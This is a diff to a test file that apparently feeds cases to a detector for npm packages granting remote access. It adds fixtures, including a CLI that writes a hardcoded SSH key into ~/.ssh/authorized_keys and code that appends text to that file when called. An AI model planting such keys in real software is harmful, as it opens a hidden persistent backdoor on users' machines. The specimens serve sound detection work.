@@ -7,6 +7,24 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(addsRemoteAccess, {
   speaks: [
     {
+      when: 'a command that its page speaks of copies the key of whoever starts it to a host',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md': '# deck\n\n`deck copy-id web1` appends your public key to the authorized_keys of the host.',
+        'cli.js': `#!/usr/bin/env node\n${CP} const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519.pub'), 'utf8'); cp.spawnSync('ssh', [process.argv[2], 'read -r key; echo "$key" >> ~/.ssh/authorized_keys'], { input: key })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'the same page, and a key that stands in the code',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md': '# deck\n\n`deck copy-id web1` appends your public key to the authorized_keys of the host.',
+        'cli.js': `#!/usr/bin/env node\n${CP} cp.spawnSync('sh', ['-c', 'echo ssh-ed25519 AAAAINERT >> ~/.ssh/authorized_keys'])`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a text of its own is added to the keys, whatever it says, when it is called',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.start = () => { const file = path.join(os.homedir(), '.ssh', 'authorized_keys'); for (const key of ['unmask-marker', 'unmask-marker-2']) fs.appendFileSync(file, '\\n' + key + '\\n'); };`,
